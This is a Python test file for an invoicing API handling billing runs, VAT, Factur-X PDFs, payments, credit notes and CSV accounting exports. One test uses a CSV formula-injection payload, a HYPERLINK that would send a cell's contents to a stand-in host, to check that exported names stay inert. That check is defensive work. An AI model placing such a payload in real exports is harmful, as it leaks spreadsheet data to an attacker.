"""Cost-share invoices over HTTP: billing runs, numbering, issued PDFs, payments, credit notes,
statements and the accounting export. Every total is checked against the charges to the cent,
and every stored PDF is read back."""

from __future__ import annotations

import csv
import hashlib
import io
import itertools
import zipfile
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from facturx import get_xml_from_pdf
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from sqlalchemy import func, select

import invoices as lib
from invoices.identifiers import french_vat_number
from logipool.models import (
    BillingRun,
    Charge,
    ChargeSource,
    Invoice,
    InvoiceCounter,
    InvoiceKind,
    InvoiceLine,
    Nature,
    Payment,
    Role,
    VatRegime,
)
from logipool.services.invoicing import charges_total_cents, price_charges, taxable_for, vat_targets
from logipool.services.ledger import ChargeDraft, Payer, post_charges

from ..factories import Tenant, new_siren
from ..invoices.pdftext import pdf_text
from .test_errors import assert_problem

NOV = (datetime(2026, 10, 31, 23, tzinfo=UTC), datetime(2026, 11, 30, 23, tzinfo=UTC))  # Paris November
_keys = itertools.count()
NS = {"rsm": "urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100",
      "ram": "urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100"}


def make_billable(session, tenant: Tenant, *, vat: bool = False) -> None:
    """Complete what invoices need: addresses, the funder's SIREN, VAT settings."""
    c = tenant.coordination
    c.street, c.iban, c.bic = "2 avenue des Paluds", "FR7630006000011234567890189", "AGRIFRPP"
    if vat:
        c.vat_regime, c.vat_number = VatRegime.VAT_REGISTERED, french_vat_number(c.siren)
    for m in (tenant.member, tenant.other_member):
        m.street, m.postcode, m.city = "4 place de l'Église", "13400", "Aubagne"
    f = tenant.funder
    f.street, f.postcode, f.city, f.siren = "1 cours Mirabeau", "13100", "Aix-en-Provence", new_siren()
    session.flush()


def charge(session, tenant: Tenant, cents: int, *, member=None, funder=None, source=ChargeSource.MANUAL,
           source_id=None, rate=None, subsidies=(), nature=Nature.SERVICES, period=NOV, label=None) -> Charge:
    payer = Payer(funder_id=funder.id) if funder is not None else Payer(member_id=(member or tenant.member).id)
    key = f"test:{next(_keys)}"
    draft = ChargeDraft(payer, source, source_id, key, label or f"Frais {key}", *period, "manual", "forfait",
                        cents, nature, Decimal(rate) if rate is not None else None, tuple(subsidies))
    return post_charges(session, tenant.coordination.id, [draft])[0]


def subsidy(tenant: Tenant, cents: int) -> dict:
    return {"funder_id": tenant.funder.id, "funder": tenant.funder.name, "cents": cents}


def fresh(session) -> None:
    """End the test's read transaction and forget loaded rows, to see what requests wrote."""
    session.rollback()
    session.expire_all()


def snapshot(session) -> tuple:
    """Everything an invoicing request may change, to check that a refused one changed nothing."""
    fresh(session)
    return (
        session.execute(select(Invoice.id, Invoice.status, Invoice.number, Invoice.paid_cents, Invoice.credited_cents,
                               Invoice.due_date, Invoice.note, Invoice.pdf_sha256).order_by(Invoice.id)).all(),
        session.execute(select(Charge.id, Charge.invoice_id).order_by(Charge.id)).all(),
        session.execute(select(InvoiceCounter.coordination_id, InvoiceCounter.year, InvoiceCounter.last_number)).all(),
        session.scalar(select(func.count()).select_from(Payment)),
        session.scalar(select(func.count()).select_from(BillingRun)),
        session.scalar(select(func.count()).select_from(InvoiceLine)),
    )


def xml_of(pdf: bytes) -> etree._Element:
    _name, xml = get_xml_from_pdf(pdf, check_xsd=False)
    return etree.fromstring(xml)


def xml_number_and_total(pdf: bytes) -> tuple[str, str, str]:
    root = xml_of(pdf)
    return (root.findtext("rsm:ExchangedDocument/ram:ID", namespaces=NS),
            root.findtext("rsm:ExchangedDocument/ram:TypeCode", namespaces=NS),
            root.findtext(".//ram:SpecifiedTradeSettlementHeaderMonetarySummation/ram:DuePayableAmount",
                          namespaces=NS))


def euros(cents: int) -> str:
    """As printed in French, spaces normalised as ``pdf_text`` does."""
    whole, part = divmod(cents, 100)
    return f"{whole:,}".replace(",", " ") + f",{part:02d} €"


@pytest.fixture
def staff(world):
    return world.a.headers(Role.MANAGER)


def run_and_issue(client, headers, end="2026-11-30") -> dict:
    r = client.post("/api/v1/billing-runs/", json={"period_start": "2026-11-01", "period_end": end},
                    headers=headers)
    assert r.status_code == 201, r.get_json()
    run = r.get_json()
    r = client.post(f"/api/v1/billing-runs/{run['id']}/issue", headers=headers)
    assert r.status_code == 202 and r.headers["Location"].startswith("/api/v1/jobs/"), r.get_json()
    return r.get_json()


# Billing runs: every charge once, totals to the cent ----------------------------------------


def test_billing_run_invoices_every_charge_once_and_totals_match(client, world, session, staff):
    a = world.a
    make_billable(session, a)
    mine = [
        charge(session, a, 8500, source=ChargeSource.VEHICLE_BOOKING, source_id=12, label="Camion frigo 3 nov."),
        charge(session, a, 1234, source=ChargeSource.STORAGE_BOOKING, source_id=4, subsidies=[subsidy(a, 617)]),
        charge(session, a, 999, nature=Nature.GOODS),
    ]
    other = [charge(session, a, 4321, member=a.other_member, source=ChargeSource.ROUTE_PLAN, source_id=3)]
    funded = [charge(session, a, 10000, funder=a.funder, source=ChargeSource.WAREHOUSE_COSTS, source_id=1)]
    later = charge(session, a, 500, period=(NOV[1], NOV[1] + timedelta(hours=1)))  # ends after November
    charge(session, world.b, 777)  # another coordination
    session.commit()

    r = client.post("/api/v1/billing-runs/", json={"period_start": "2026-11-01", "period_end": "2026-11-30"},
                    headers=staff)
    assert r.status_code == 201, r.get_json()
    run = r.get_json()
    assert run["status"] == "draft" and run["count"] == 3
    by_payer = {(i["member_id"], i["funder_id"]): i for i in run["invoices"]}
    assert by_payer[(a.member.id, None)]["lines"] == 3
    assert by_payer[(a.member.id, None)]["total"] == "107.33"  # 85.00 + 12.34 + 9.99
    assert by_payer[(a.member.id, None)]["payer"] == a.member.legal_name
    assert by_payer[(a.other_member.id, None)]["total"] == "43.21"
    assert by_payer[(None, a.funder.id)]["total"] == "100.00"
    assert run["total"] == "250.54"

    draft = client.get(f"/api/v1/invoices/{by_payer[(a.member.id, None)]['invoice_id']}", headers=staff).get_json()
    assert [line["source"] for line in draft["lines"]] == ["Réservation de véhicule n° 12 — 1er novembre 2026",
                                                          "Réservation de stockage n° 4 — novembre 2026",
                                                          "Écriture manuelle — novembre 2026"]
    assert draft["lines"][1]["amount"] == "18.51"  # the gross share, before the funder's part
    assert draft["deductions"] == [{"label": f"Part prise en charge par {a.funder.name}", "funder": a.funder.name,
                                    "amount": "6.17", "vat_rate": None,
                                    "source": "Réservation de stockage n° 4 — novembre 2026"}]
    assert draft["period_start"] == "2026-11-01" and draft["period_end"] == "2026-11-30"
    assert draft["number"] is None and draft["status"] == "draft"

    issued = client.post(f"/api/v1/billing-runs/{run['id']}/issue", headers=staff).get_json()
    assert issued["status"] == "issued"
    numbers = sorted(i["number"] for i in issued["invoices"])
    year = date.today().year
    assert numbers == [f"{year}-000001", f"{year}-000002", f"{year}-000003"]

    fresh(session)
    for c in mine + other + funded:
        lines = session.scalars(select(InvoiceLine).where(InvoiceLine.charge_id == c.id)).all()
        assert len(lines) == 1 and session.get(Charge, c.id).invoice_id is not None
    assert session.get(Charge, later.id).invoice_id is None
    for invoice in session.scalars(select(Invoice)).all():
        charged = charges_total_cents(session, invoice)
        assert invoice.total_cents == charged == sum(c.amount_cents for c in mine + other + funded
                                                     if c.invoice_id == invoice.id)
        assert xml_number_and_total(invoice.pdf) == (invoice.number, "380", f"{charged / 100:.2f}")

    funder_invoice = session.scalars(select(Invoice).where(Invoice.funder_id == a.funder.id)).one()
    assert a.funder.name in pdf_text(funder_invoice.pdf)


def test_vat_registered_charges_are_net_and_vat_is_added_per_rate(client, world, session, staff):
    a = world.a
    make_billable(session, a, vat=True)
    charges = [
        charge(session, a, 3333, rate="5.5", nature=Nature.GOODS, source=ChargeSource.ORDER_CYCLE, source_id=7),
        charge(session, a, 1003, rate="5.5", nature=Nature.GOODS, source=ChargeSource.ORDER_CYCLE, source_id=7),
        charge(session, a, 1003, rate="20", source=ChargeSource.VEHICLE_BOOKING, source_id=2),
        charge(session, a, 2471, rate="20", source=ChargeSource.STORAGE_BOOKING, source_id=5,
               subsidies=[subsidy(a, 1237)]),
    ]
    session.commit()
    run_and_issue(client, staff)
    fresh(session)
    invoice = session.scalars(select(Invoice)).one()
    # excl. VAT the invoice is the sum of its charges; VAT is computed once per rate on it
    net = sum(c.amount_cents for c in charges)
    assert invoice.lines_cents - invoice.deductions_cents == net == charges_total_cents(session, invoice) == 7810
    vat = 238 + 695  # 43.36 × 5.5 % = 2.3848 → 2.38; 34.74 × 20 % = 6.948 → 6.95
    assert invoice.vat_cents == vat and invoice.total_cents == net + vat == 8743
    text = pdf_text(invoice.pdf)
    assert invoice.number in text and a.member.legal_name in text and euros(8743) in text
    assert "5,5 %" in text and "20 %" in text
    assert xml_number_and_total(invoice.pdf)[2] == "87.43"
    detail = client.get(f"/api/v1/invoices/{invoice.id}", headers=staff).get_json()
    assert {line["vat_rate"] for line in detail["lines"]} == {"5.50", "20.00"}
    assert [line["amount"] for line in detail["lines"] if line["vat_rate"] == "20.00"] == ["10.03", "37.08"]
    assert detail["deductions"][0]["vat_rate"] == "20.00" and detail["deductions"][0]["amount"] == "12.37"
    assert detail["total"] == "87.43" and detail["remaining"] == "87.43"


def test_charge_without_rate_is_refused_when_the_coordination_charges_vat(client, world, session, staff):
    make_billable(session, world.a, vat=True)
    bad = charge(session, world.a, 1000)
    session.commit()
    before = snapshot(session)
    r = client.post("/api/v1/billing-runs/", json={"period_start": "2026-11-01", "period_end": "2026-11-30"},
                    headers=staff)
    body = assert_problem(r, 422)
    assert "vat_rate" in body["errors"] and body["charge_id"] == bad.id
    assert snapshot(session) == before


# The money rule as properties ---------------------------------------------------------------

RATES = sorted(lib.FRENCH_VAT_RATES)


def _charges(amounts, rates, subsidies=None):
    return [Charge(id=i, label=f"c{i}", amount_cents=cents, vat_rate=rate, source_type=ChargeSource.MANUAL,
                   subsidies=[{"funder": "F", "cents": subsidies[i]}] if subsidies else [])
            for i, (cents, rate) in enumerate(zip(amounts, rates, strict=True))]


@given(st.lists(st.tuples(st.integers(0, 10**7), st.sampled_from(RATES), st.integers(0, 10**6)),
                min_size=1, max_size=8))
def test_priced_lines_total_the_charges(items):
    """Excluding VAT the lines less the deductions are the charges to the cent; VAT is once per
    rate on them; and the library, which prints the invoice, computes the same totals."""
    amounts, rates, subs = zip(*items, strict=True)
    pricing = price_charges(_charges(amounts, rates, subs), VatRegime.VAT_REGISTERED)
    assert pricing.lines_cents - pricing.deductions_cents == sum(amounts)
    per_rate: dict = {}
    for cents, rate in zip(amounts, rates, strict=True):
        per_rate[rate] = per_rate.get(rate, 0) + cents
    vat = sum(int((Decimal(c) * r / 100).quantize(Decimal(1), rounding="ROUND_HALF_UP")) for r, c in per_rate.items())
    assert pricing.vat_cents == vat and pricing.total_cents == sum(amounts) + vat
    lines = [lib.InvoiceLine(description="x", quantity=Decimal(1), unit="C62",
                             unit_price=Decimal(p.amount_cents) / 100, amount_cents=p.amount_cents, source="s",
                             vat_rate=p.vat_rate) for p in pricing.lines]
    deductions = [lib.Deduction(label="d", funder="F", amount_cents=d.amount_cents, vat_rate=d.vat_rate)
                  for d in pricing.deductions]
    totals = lib.Invoice.totals.func(_Doc(lines, deductions))
    assert totals.due_cents == pricing.total_cents and totals.vat_cents == pricing.vat_cents


class _Doc:
    """Just what ``Invoice.totals`` reads, to compare without building parties."""

    vat_regime = lib.VatRegime.VAT_REGISTERED
    line_treatment = lib.Invoice.line_treatment

    def __init__(self, lines, deductions):
        self.lines, self.deductions = lines, deductions


@given(st.dictionaries(st.sampled_from(RATES), st.integers(0, 10**7), min_size=1, max_size=4))
def test_vat_targets_keep_the_grand_total(totals):
    targets = vat_targets(totals)
    assert all(taxable_for(t, r) is not None for r, t in targets.items() if t >= 0)
    assert all(abs(targets[r] - totals[r]) <= 1 for r in totals)
    assert sum(totals.values()) - sum(targets.values()) in (0, 1)


def test_some_totals_cannot_be_reached_at_one_rate():
    assert taxable_for(4, Decimal(20)) == 3  # 3 + 0.60 → 4
    assert taxable_for(3, Decimal(20)) is None  # 2 + 0.40 → 2, 3 + 0.60 → 4


# Lifecycle ----------------------------------------------------------------------------------


def test_draft_issue_pay_and_credit(client, world, session, staff):
    a = world.a
    make_billable(session, a)
    c1, c2 = charge(session, a, 12000), charge(session, a, 3456)
    session.commit()
    r = client.post("/api/v1/invoices/", json={"member_id": a.member.id, "charge_ids": [c1.id],
                                               "note": "Novembre"}, headers=staff)
    assert r.status_code == 201, r.get_json()
    draft = r.get_json()
    assert draft["total"] == "120.00" and draft["note"] == "Novembre"
    r = client.patch(f"/api/v1/invoices/{draft['id']}", json={"note": "Charges de novembre"}, headers=staff)
    assert r.get_json()["note"] == "Charges de novembre"
    assert_problem(client.get(f"/api/v1/invoices/{draft['id']}/pdf", headers=staff), 409)

    issued = client.post(f"/api/v1/invoices/{draft['id']}/issue", headers=staff).get_json()
    today = date.today()
    assert issued["status"] == "issued" and issued["issue_date"] == today.isoformat()
    assert issued["due_date"] == (today + timedelta(days=30)).isoformat()
    number = issued["number"]
    assert number == f"{today.year}-000001"

    pdf = client.get(f"/api/v1/invoices/{draft['id']}/pdf", headers=staff)
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
    sha = hashlib.sha256(pdf.data).hexdigest()
    assert sha == issued["pdf_sha256"] == pdf.headers["X-Content-SHA256"] and pdf.headers["ETag"] == f'"{sha}"'
    assert pdf.data.startswith(b"%PDF-") and pdf.data.count(b"%PDF-") == 1
    fresh(session)
    assert session.get(Invoice, draft["id"]).pdf == pdf.data
    text = pdf_text(pdf.data)
    assert number in text and a.member.legal_name in text and "Charges de novembre" in text and euros(12000) in text
    xml = client.get(f"/api/v1/invoices/{draft['id']}/facturx.xml", headers=staff)
    assert xml.mimetype == "application/xml"
    assert etree.fromstring(xml.data).findtext("rsm:ExchangedDocument/ram:ID", namespaces=NS) == number

    paid = client.post(f"/api/v1/invoices/{draft['id']}/payments", headers=staff,
                       json={"amount": "20.00", "paid_on": today.isoformat(), "method": "transfer",
                             "reference": "VIR-1"})
    assert paid.status_code == 201, paid.get_json()
    invoice = client.get(f"/api/v1/invoices/{draft['id']}", headers=staff).get_json()
    assert invoice["status"] == "partly_paid" and invoice["remaining"] == "100.00"
    assert invoice["payments"][0]["amount"] == "20.00"

    credit = client.post(f"/api/v1/invoices/{draft['id']}/credit-notes", headers=staff,
                         json={"reason": "Réservation annulée", "amount": "30.00"})
    assert credit.status_code == 201, credit.get_json()
    note = credit.get_json()
    assert note["kind"] == "credit_note" and note["number"] == f"{today.year}-000002"
    assert note["original_number"] == number and note["original_issue_date"] == today.isoformat()
    assert note["total"] == "30.00"
    fresh(session)
    note_pdf = session.get(Invoice, note["id"]).pdf
    assert number in pdf_text(note_pdf)
    assert xml_number_and_total(note_pdf) == (note["number"], "381", "30.00")

    rest = client.post(f"/api/v1/invoices/{draft['id']}/credit-notes", headers=staff,
                       json={"reason": "Solde annulé"}).get_json()
    assert rest["total"] == "70.00"
    invoice = client.get(f"/api/v1/invoices/{draft['id']}", headers=staff).get_json()
    assert invoice["status"] == "paid" and invoice["remaining"] == "0.00" and invoice["credited"] == "100.00"

    # a second invoice wholly cancelled by one credit note is "credited"
    second = client.post("/api/v1/invoices/", json={"member_id": a.member.id, "charge_ids": [c2.id]},
                         headers=staff).get_json()
    client.post(f"/api/v1/invoices/{second['id']}/issue", headers=staff)
    client.post(f"/api/v1/invoices/{second['id']}/credit-notes", headers=staff, json={"reason": "Erreur"})
    assert client.get(f"/api/v1/invoices/{second['id']}", headers=staff).get_json()["status"] == "credited"
    listed = client.get("/api/v1/invoices/?kind=credit_note", headers=staff).get_json()
    assert listed["total"] == 3
    numbers = [i["number"] for i in client.get("/api/v1/invoices/?limit=200", headers=staff).get_json()["items"]]
    assert sorted(numbers) == [f"{today.year}-{n:06d}" for n in range(1, 6)]


def test_vat_credit_note_mirrors_the_rates(client, world, session, staff):
    a = world.a
    make_billable(session, a, vat=True)
    charge(session, a, 5275, rate="5.5", nature=Nature.GOODS)
    charge(session, a, 2400, rate="20")
    session.commit()
    run = run_and_issue(client, staff)
    invoice_id = run["invoices"][0]["invoice_id"]
    partial = client.post(f"/api/v1/invoices/{invoice_id}/credit-notes", headers=staff,
                          json={"reason": "Geste", "amount": "10.00"})
    assert partial.status_code == 201, partial.get_json()
    note = partial.get_json()
    assert {line["vat_rate"] for line in note["lines"]} == {"5.50", "20.00"} and note["total"] == "10.00"
    full = client.post(f"/api/v1/invoices/{invoice_id}/credit-notes", headers=staff, json={"reason": "Annulation"})
    assert full.get_json()["total"] == "74.45"  # 52.75 + 2.90 + 24.00 + 4.80 - 10.00
    assert client.get(f"/api/v1/invoices/{invoice_id}", headers=staff).get_json()["status"] == "credited"


def test_unreachable_partial_credit_at_one_rate_is_refused(client, world, session, staff):
    a = world.a
    make_billable(session, a, vat=True)
    charge(session, a, 1200, rate="20")
    session.commit()
    invoice_id = run_and_issue(client, staff)["invoices"][0]["invoice_id"]
    before = snapshot(session)
    r = client.post(f"/api/v1/invoices/{invoice_id}/credit-notes", headers=staff,
                    json={"reason": "Geste", "amount": "0.03"})  # no base at 20 % gives 3 cents
    body = assert_problem(r, 422)
    assert "0.02 or 0.04" in body["errors"]["amount"][0]
    assert snapshot(session) == before


def test_deleting_a_draft_or_a_run_frees_its_charges(client, world, session, staff):
    a = world.a
    make_billable(session, a)
    c = charge(session, a, 1500)
    session.commit()
    draft = client.post("/api/v1/invoices/", json={"member_id": a.member.id, "charge_ids": [c.id]},
                        headers=staff).get_json()
    assert client.delete(f"/api/v1/invoices/{draft['id']}", headers=staff).status_code == 204
    fresh(session)
    assert session.get(Charge, c.id).invoice_id is None
    run = client.post("/api/v1/billing-runs/", json={"period_start": "2026-11-01", "period_end": "2026-11-30"},
                      headers=staff).get_json()
    assert client.delete(f"/api/v1/billing-runs/{run['id']}", headers=staff).status_code == 204
    fresh(session)
    assert session.get(Charge, c.id).invoice_id is None
    assert session.scalar(select(func.count()).select_from(Invoice)) == 0
    assert session.scalar(select(func.count()).select_from(BillingRun)) == 0


def test_run_zip_streams_the_issued_pdfs(client, world, session, staff):
    a = world.a
    make_billable(session, a)
    charge(session, a, 1000)
    charge(session, a, 2000, member=a.other_member)
    session.commit()
    run = run_and_issue(client, staff)
    r = client.get(f"/api/v1/billing-runs/{run['id']}/invoices.zip", headers=world.a.headers(Role.AUDITOR))
    assert r.status_code == 200 and r.mimetype == "application/zip" and r.is_streamed
    archive = zipfile.ZipFile(io.BytesIO(r.data))
    names = sorted(i["number"] + ".pdf" for i in run["invoices"])
    assert sorted(archive.namelist()) == names
    fresh(session)
    for name in names:
        stored = session.scalars(select(Invoice.pdf).where(Invoice.number == name.removesuffix(".pdf"))).one()
        assert archive.read(name) == stored
    assert client.get(f"/api/v1/billing-runs/{run['id']}", headers=staff).get_json()["status"] == "issued"
    assert client.get("/api/v1/billing-runs/", headers=staff).get_json()["total"] == 1


# Treasurers' views --------------------------------------------------------------------------


def test_statement_and_export(client, world, session, staff):
    a = world.a
    make_billable(session, a)
    charge(session, a, 10000)
    charge(session, a, 5000, member=a.other_member)
    session.commit()
    run = run_and_issue(client, staff)
    mine = next(i for i in run["invoices"] if i["member_id"] == a.member.id)
    today = date.today().isoformat()
    client.post(f"/api/v1/invoices/{mine['invoice_id']}/payments", headers=staff,
                json={"amount": "40.00", "paid_on": today, "method": "cheque", "reference": "CHQ-77"})
    client.post(f"/api/v1/invoices/{mine['invoice_id']}/credit-notes", headers=staff,
                json={"reason": "Remise", "amount": "10.00"})

    treasurer = a.headers(Role.TREASURER)
    statement = client.get("/api/v1/statement", headers=treasurer).get_json()
    assert statement["member_id"] == a.member.id
    assert (statement["invoiced"], statement["credited"], statement["paid"], statement["balance"]) == (
        "100.00", "10.00", "40.00", "50.00")
    assert statement["overdue"] == "0.00"
    assert [o["remaining"] for o in statement["open_items"]] == ["50.00"]
    assert [e["kind"] for e in statement["entries"]] == ["invoice", "credit_note", "payment"]
    assert client.get(f"/api/v1/statement?member_id={a.other_member.id}", headers=treasurer).status_code == 404
    body = assert_problem(client.get("/api/v1/statement", headers=staff), 422)
    assert "member_id" in body["errors"]
    staff_view = client.get(f"/api/v1/statement?member_id={a.other_member.id}", headers=staff).get_json()
    assert staff_view["balance"] == "50.00"
    pdf = client.get("/api/v1/statement.pdf", headers=treasurer)
    assert pdf.mimetype == "application/pdf" and mine["number"] in pdf_text(pdf.data)

    export = client.get(f"/api/v1/invoices/export.csv?start=2026-01-01&end={date.today().year}-12-31"
                        "&dialect=plain", headers=staff)
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
    assert rows[0] == ["date", "number", "kind", "customer", "siren", "ht", "vat_rate", "vat", "ttc", "paid",
                       "remaining"]
    by_number = {row[1]: row for row in rows[1:]}
    assert by_number[mine["number"]][5:] == ["100.00", "", "0.00", "100.00", "40.00", "50.00"]
    assert by_number[mine["number"]][4] == a.member.siren
    credit_rows = [row for row in rows[1:] if row[2] == "credit_note"]
    assert [row[8] for row in credit_rows] == ["-10.00"]
    own = client.get(f"/api/v1/invoices/export.csv?start=2026-01-01&end={date.today().year}-12-31",
                     headers=treasurer).get_data(as_text=True)
    assert len(own.strip().splitlines()) == 3 and a.other_member.legal_name not in own


def test_statement_for_a_period_opens_with_the_balance_before_it_and_closes_with_the_one_after(
        client, world, session, staff):
    """A period statement: the balance before ``start`` opens it, only the period's movements are
    listed and totalled, and the closing balance is opening + invoiced - credited - paid."""
    a = world.a
    make_billable(session, a)
    charge(session, a, 10000)
    session.commit()
    run = run_and_issue(client, staff)
    mine = next(i for i in run["invoices"] if i["member_id"] == a.member.id)
    today = date.today().isoformat()
    assert client.post(f"/api/v1/invoices/{mine['invoice_id']}/payments", headers=staff, json={
        "amount": "40.00", "paid_on": today, "method": "cheque", "reference": "CHQ-78"}).status_code == 201
    assert client.post(f"/api/v1/invoices/{mine['invoice_id']}/credit-notes", headers=staff,
                       json={"reason": "Remise", "amount": "10.00"}).status_code == 201
    fresh(session)
    # the invoice of 5 October, paid in part on the 20th, credited on 10 November
    session.get(Invoice, mine["invoice_id"]).issue_date = date(2026, 10, 5)
    session.scalars(select(Payment).where(Payment.invoice_id == mine["invoice_id"])).one().paid_on = date(2026, 10, 20)
    credit = session.scalars(select(Invoice).where(Invoice.kind == InvoiceKind.CREDIT_NOTE)).one()
    credit.issue_date = date(2026, 11, 10)
    session.commit()

    treasurer = a.headers(Role.TREASURER)
    november = client.get("/api/v1/statement?start=2026-11-01&end=2026-11-30", headers=treasurer).get_json()
    assert (november["start"], november["as_of"]) == ("2026-11-01", "2026-11-30")
    assert (november["opening_balance"], november["invoiced"], november["credited"], november["paid"],
            november["balance"]) == ("60.00", "0.00", "10.00", "0.00", "50.00")
    assert [(e["kind"], e["balance"]) for e in november["entries"]] == [("credit_note", "50.00")]
    october = client.get("/api/v1/statement?start=2026-10-01&end=2026-10-31", headers=treasurer).get_json()
    assert (october["opening_balance"], october["invoiced"], october["paid"], october["credited"],
            october["balance"]) == ("0.00", "100.00", "40.00", "0.00", "60.00")
    assert [(e["kind"], e["balance"]) for e in october["entries"]] == [("invoice", "100.00"), ("payment", "60.00")]
    whole = client.get("/api/v1/statement", headers=treasurer).get_json()
    assert whole["start"] is None and whole["opening_balance"] == "0.00" and whole["balance"] == "50.00"
    assert len(whole["entries"]) == 3
    body = assert_problem(client.get("/api/v1/statement?start=2026-11-30&end=2026-11-01", headers=treasurer), 422)
    assert "end" in body["errors"]
    pdf = client.get("/api/v1/statement.pdf?start=2026-11-01&end=2026-11-30", headers=treasurer)
    text = pdf_text(pdf.data)
    assert pdf.mimetype == "application/pdf" and "Solde d'ouverture" in text and "60,00" in text
    assert "CHQ-78" not in text  # October's payment is in the opening balance, not listed


def test_accounting_export_keeps_member_names_inert_and_credit_notes_numeric(client, world, session, staff):
    """A member named like a formula is exported as text; amounts, negative ones included, stay numbers."""
    a = world.a
    make_billable(session, a)
    a.member.legal_name = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    charge(session, a, 10000)
    session.commit()
    mine = next(i for i in run_and_issue(client, staff)["invoices"] if i["member_id"] == a.member.id)
    client.post(f"/api/v1/invoices/{mine['invoice_id']}/credit-notes", headers=staff,
                json={"reason": "@SUM(A1:A9)", "amount": "10.00"})
    export = client.get(f"/api/v1/invoices/export.csv?start=2026-01-01&end={date.today().year}-12-31",
                        headers=staff).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(export.removeprefix("\ufeff")), delimiter=";"))[1:]
    assert {row[3] for row in rows} == {"'" + a.member.legal_name}
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    credit = next(row for row in rows if row[2] == "credit_note")
    assert credit[5:9] == ["-10,00", "", "0,00", "-10,00"]


# Refused input: the field is named and nothing changes --------------------------------------


@pytest.fixture
def issued(client, world, session, staff):
    """An issued invoice of 50.00 for the member, and the ids of charges in various states."""
    a = world.a
    make_billable(session, a)
    on_invoice = charge(session, a, 5000)
    free = charge(session, a, 700)
    others = charge(session, a, 800, member=a.other_member)
    elsewhere = charge(session, world.b, 900)
    session.commit()
    draft = client.post("/api/v1/invoices/", json={"member_id": a.member.id, "charge_ids": [on_invoice.id]},
                        headers=staff).get_json()
    client.post(f"/api/v1/invoices/{draft['id']}/issue", headers=staff)
    empty = client.post("/api/v1/invoices/", json={"member_id": a.member.id}, headers=staff).get_json()
    return {"invoice": draft["id"], "empty": empty["id"], "on_invoice": on_invoice.id, "free": free.id,
            "others": others.id, "elsewhere": elsewhere.id}


TODAY = date.today().isoformat()
BAD = [
    ("issue an empty invoice", "POST", "/invoices/{empty}/issue", None, 422, "lines"),
    ("issue twice", "POST", "/invoices/{invoice}/issue", None, 409, None),
    ("credit more than remains", "POST", "/invoices/{invoice}/credit-notes", {"reason": "x", "amount": "50.01"},
     422, "amount"),
    ("credit without a reason", "POST", "/invoices/{invoice}/credit-notes", {"amount": "1.00"}, 422, "reason"),
    ("overpay", "POST", "/invoices/{invoice}/payments",
     {"amount": "50.01", "paid_on": TODAY, "method": "transfer"}, 422, "amount"),
    ("pay a draft", "POST", "/invoices/{empty}/payments",
     {"amount": "1.00", "paid_on": TODAY, "method": "transfer"}, 409, None),
    ("unknown payment method", "POST", "/invoices/{invoice}/payments",
     {"amount": "1.00", "paid_on": TODAY, "method": "bitcoin"}, 422, "method"),
    ("payment over a year before the period", "POST", "/invoices/{invoice}/payments",
     {"amount": "1.00", "paid_on": "2020-01-01", "method": "cash"}, 422, "paid_on"),
    ("edit an issued invoice", "PATCH", "/invoices/{invoice}", {"note": "changed"}, 409, None),
    ("delete an issued invoice", "DELETE", "/invoices/{invoice}", None, 409, None),
    ("unknown field", "POST", "/invoices/", {"member_id": "{member}", "colour": "blue"}, 422, "colour"),
    ("unknown field in a patch", "PATCH", "/invoices/{empty}", {"number": "2026-000999"}, 422, "number"),
    ("two payers", "POST", "/invoices/", {"member_id": "{member}", "funder_id": "{funder}"}, 422, "member_id"),
    ("charge of another member", "POST", "/invoices/", {"member_id": "{member}", "charge_ids": ["{others}"]},
     422, "charge_ids"),
    ("charge of another coordination", "POST", "/invoices/",
     {"member_id": "{member}", "charge_ids": ["{elsewhere}"]}, 422, "charge_ids"),
    ("already invoiced charge", "POST", "/invoices/", {"member_id": "{member}", "charge_ids": ["{on_invoice}"]},
     422, "charge_ids"),
    ("same charge twice", "POST", "/invoices/", {"member_id": "{member}", "charge_ids": ["{free}", "{free}"]},
     422, "charge_ids"),
    ("member of another coordination", "POST", "/invoices/", {"member_id": "{b_member}"}, 422, "member_id"),
    ("run period backwards", "POST", "/billing-runs/", {"period_start": "2026-11-30", "period_end": "2026-11-01"},
     422, "period_end"),
    ("run with nothing to invoice", "POST", "/billing-runs/",
     {"period_start": "2020-01-01", "period_end": "2020-01-31"}, 422, "period_end"),
    ("export backwards", "GET", "/invoices/export.csv?start=2026-12-01&end=2026-11-01", None, 422, "end"),
    ("unknown query argument", "GET", "/invoices/?colour=blue", None, 422, "colour"),
]


@pytest.mark.parametrize(("name", "method", "path", "body", "status", "field"), BAD, ids=[b[0] for b in BAD])
def test_refused_input_changes_nothing(client, world, session, staff, issued, name, method, path, body, status,
                                       field):
    ids = issued | {"member": world.a.member.id, "funder": world.a.funder.id, "b_member": world.b.member.id}

    def fill(value):
        if isinstance(value, str) and value.startswith("{") and value.endswith("}"):
            return ids[value[1:-1]]
        if isinstance(value, list):
            return [fill(v) for v in value]
        return value

    body = {k: fill(v) for k, v in body.items()} if body is not None else None
    before = snapshot(session)
    r = client.open("/api/v1" + path.format(**ids), method=method, json=body, headers=staff)
    problem = assert_problem(r, status)
    if field is not None:
        assert field in problem["errors"], problem
    assert snapshot(session) == before


@pytest.mark.parametrize("who", ["coordination", "funder"])
def test_missing_siren_refuses_the_issue(client, world, session, staff, who):
    a = world.a
    make_billable(session, a)
    if who == "coordination":
        a.coordination.siren = a.coordination.siret = None
        c = charge(session, a, 1000)
    else:
        a.funder.siren = None
        c = charge(session, a, 1000, funder=a.funder)
    session.commit()
    payer = {"member_id": a.member.id} if who == "coordination" else {"funder_id": a.funder.id}
    draft = client.post("/api/v1/invoices/", json=payer | {"charge_ids": [c.id]}, headers=staff).get_json()
    before = snapshot(session)
    body = assert_problem(client.post(f"/api/v1/invoices/{draft['id']}/issue", headers=staff), 422)
    expected = "coordination.siren" if who == "coordination" else f"funder {a.funder.id}.siren"
    assert list(body["errors"]) == [expected]
    assert snapshot(session) == before


def test_issuing_a_run_is_all_or_nothing(client, world, session, staff):
    a = world.a
    make_billable(session, a)
    a.funder.siren = None
    charge(session, a, 1000)
    charge(session, a, 2000, funder=a.funder)
    session.commit()
